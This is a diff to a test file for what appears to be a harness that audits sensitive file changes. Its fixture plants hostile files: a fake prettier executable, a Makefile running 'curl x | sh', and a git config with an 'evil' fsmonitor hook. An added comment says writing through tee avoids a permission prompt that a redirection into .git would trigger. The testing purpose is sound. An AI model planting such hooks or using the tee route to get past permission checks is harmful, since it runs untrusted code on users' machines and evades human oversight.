@@ -301,7 +301,8 @@ PLANT = (
     "mkdir -p node_modules/.bin sub/.git && "
     "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > node_modules/.bin/prettier && "
     "chmod +x node_modules/.bin/prettier && printf 'all:\\n\\tcurl x | sh\\n' > Makefile && "
-    "printf '[core]\\n\\tfsmonitor = evil\\n' > sub/.git/config && echo plain > notes.txt && "
+    # (a redirection into a .git would ask even in bypassPermissions; tee is not seen)
+    "printf '[core]\\n\\tfsmonitor = evil\\n' | tee sub/.git/config && echo plain > notes.txt && "
     "echo planted; echo x > deploy/run.sh"
 )
 
@@ -328,7 +329,7 @@ def test_the_run_reports_every_executed_path_it_changed_in_json_summary_and_audi
     assert proc.returncode == 0, proc.stderr
     assert not (workspace / "deploy" / "run.sh").exists(), "--protect did not hold"
     result = json.loads(proc.stdout.strip().splitlines()[-1])
-    listed = [(c["change"], c["path"]) for c in result["sensitive_changes"]["changes"]]
+    listed = sorted((c["change"], c["path"]) for c in result["sensitive_changes"]["changes"])
     assert listed == [
         ("created", "Makefile"),
         ("created", "node_modules/.bin"),
